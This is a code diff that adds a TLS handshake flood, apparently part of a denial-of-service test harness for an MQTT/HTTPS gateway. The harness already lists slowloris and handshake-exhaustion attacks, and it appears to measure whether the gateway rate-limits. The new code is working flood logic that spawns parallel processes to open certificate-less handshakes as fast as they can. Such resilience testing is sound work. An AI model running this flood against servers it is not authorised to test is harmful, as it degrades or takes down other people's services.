@@ -42,6 +42,7 @@ class Sizes:
     readings: int = 1_000
     slow_http: int = 300
     pending: int = 2_000
+    flooders: int = 2
     source: str = "127.0.0.2"
 
 
@@ -377,7 +378,60 @@ def _hold_pending(host: str, port: int, source: str, count: int,
     return len(held), failed, alive
 
 
+class TlsFlood(Attack):
+    name = "tls-flood"
+    what = "TLS handshakes without a certificate, back to back, on the MQTT and HTTPS ports"
+
+    def __init__(self, *a, http: tuple[str, int] | None = None, **kw) -> None:
+        super().__init__(*a, **kw)
+        self.http = http
+
+    def run(self, deadline: float) -> None:
+        # Processes of their own, like pending-handshakes: handshakes are CPU work, and in
+        # this process they would take the victim's interpreter lock, not the gateway's CPU.
+        targets = [(self.host, self.port)] + ([self.http] if self.http is not None else [])
+        spawn = multiprocessing.get_context("spawn")
+        with spawn.Pool(self.sizes.flooders) as pool:
+            start = time.monotonic()
+            counts = pool.starmap(_flood, [
+                (targets, str(self.attacker.ca), self.sizes.source,
+                 deadline - time.monotonic())] * self.sizes.flooders)
+            seconds = max(1.0, time.monotonic() - start)
+        for (host, port), label in zip(targets, ("MQTT", "HTTPS"), strict=False):
+            answered = sum(c[(host, port)][0] for c in counts)
+            cut = sum(c[(host, port)][1] for c in counts)
+            self.notes.append(f"{label}: {answered} handshakes answered, {cut} cut before "
+                              f"TLS ({(answered + cut) / seconds:.0f} tries/s)")
+
+
+def _flood(targets: list[tuple[str, int]], ca: str, source: str,
+           seconds: float) -> dict[tuple[str, int], list[int]]:
+    """Handshake with each target in turn, without a client certificate, until `seconds`
+    pass; per target [handshakes the server answered (its TLS reply came), attempts cut
+    before any TLS reply (closed at accept: a rate limit)]."""
+    deadline = time.monotonic() + seconds
+    ctx = rawmqtt.tls_context(None, Path(ca))
+    counts = {target: [0, 0] for target in targets}
+    while time.monotonic() < deadline:
+        for target in targets:
+            s = _bound(source, 5.0)
+            try:
+                s.connect(target)
+                with ctx.wrap_socket(s):
+                    pass
+                counts[target][0] += 1
+            except (ssl.SSLEOFError, ssl.SSLZeroReturnError, ConnectionError, TimeoutError):
+                counts[target][1] += 1
+            except ssl.SSLError:
+                counts[target][0] += 1  # an alert: the server did the handshake's work
+            except OSError:
+                counts[target][1] += 1
+            finally:
+                s.close()
+    return counts
+
+
 ATTACKS: dict[str, type[Attack]] = {a.name: a for a in (
     SubscribeFreeze, OfflineFanout, WriterStarvation, LogAmplification, HttpSlowloris,
-    PendingHandshakes)}
+    PendingHandshakes, TlsFlood)}
 
